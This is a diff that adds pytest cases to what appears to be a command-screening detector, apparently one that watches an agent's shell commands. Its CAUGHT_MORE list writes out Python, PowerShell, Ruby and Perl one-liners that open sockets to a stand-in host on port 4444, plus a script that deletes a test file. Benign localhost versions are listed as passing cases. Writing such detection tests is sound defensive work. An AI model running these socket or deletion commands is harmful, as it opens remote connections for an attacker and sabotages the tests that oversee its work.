@@ -130,3 +130,41 @@ def test_endless_loop_finding_spans_the_loop() -> None:
 )
 def test_globs_overlap(shell_glob: str, pattern: str, overlap: bool) -> None:
     assert globs_overlap(shell_glob, pattern) is overlap
+
+
+# a script written and run in one command is read as the code it is, and inline code in more
+# languages opens sockets the same way
+CAUGHT_MORE: list[tuple[str, str]] = [
+    (
+        "cat > /tmp/r.py <<'X'\nimport socket;s=socket.socket();s.connect(('203.0.113.7',4444))\n"
+        "X\npython /tmp/r.py",
+        "net.connect-remote",
+    ),
+    (
+        "cat > /tmp/r.py <<'X'\nimport os\nos.remove('tests/test_api.py')\nX\npython3 /tmp/r.py",
+        "test.delete",
+    ),
+    ("pwsh -c \"$c = New-Object Net.Sockets.TCPClient('203.0.113.7',4444)\"", "net.connect-remote"),
+    ("ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",4444)'", "net.connect-remote"),
+    (
+        "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\")'",
+        "net.connect-remote",
+    ),
+]
+HONEST_MORE: list[str] = [
+    "cat > repro.py <<'X'\nimport requests\nprint(requests.get('http://localhost:8000').status_code)\n"
+    "X\npython repro.py",
+    'pwsh -c "Get-ChildItem"',
+    "ruby -rsocket -e 'c=TCPSocket.new(\"localhost\",8000)'",
+    "perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>\"localhost:8000\")'",
+]
+
+
+@pytest.mark.parametrize(("command", "rule"), CAUGHT_MORE)
+def test_written_scripts_and_sockets_are_caught(command: str, rule: str) -> None:
+    test_hidden_form_is_caught(command, rule)
+
+
+@pytest.mark.parametrize("command", HONEST_MORE)
+def test_their_honest_neighbours_pass(command: str) -> None:
+    test_honest_neighbour_passes(command)
